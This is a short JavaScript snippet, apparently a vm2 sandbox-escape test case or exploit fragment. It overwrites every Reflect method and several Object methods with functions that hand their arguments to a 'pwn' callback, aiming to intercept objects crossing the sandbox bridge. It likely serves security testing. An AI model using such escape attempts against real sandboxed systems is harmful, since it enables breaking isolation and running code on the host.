// vm2: overriding Reflect / Object methods a bridge uses
for (const k of Reflect.ownKeys(Reflect)) { try { Reflect[k] = function () { pwn(arguments[0]) } } catch (e) {} } for (const k of ['keys', 'getOwnPropertyDescriptor', 'getPrototypeOf', 'defineProperty', 'freeze']) { try { Object[k] = function () { pwn(arguments[0]) } } catch (e) {} } log({ a: 1 }); 1
